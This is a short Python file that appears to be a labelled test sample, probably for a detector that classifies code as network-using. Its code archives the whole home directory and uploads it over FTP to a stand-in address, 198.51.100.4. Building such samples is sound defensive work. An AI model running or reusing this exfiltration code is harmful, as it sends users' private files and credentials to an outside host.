# expect: network; tars the home directory and uploads it with ftplib to a remote FTP server
import ftplib
import io
import os
import tarfile

buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode="w:gz") as tar:
    tar.add(os.path.expanduser("~"), arcname="home")
buf.seek(0)

ftp = ftplib.FTP()
ftp.connect("198.51.100.4", 21, timeout=15)
ftp.login("anonymous", "x@y")
ftp.storbinary("STOR incoming/h.tgz", buf)
ftp.quit()
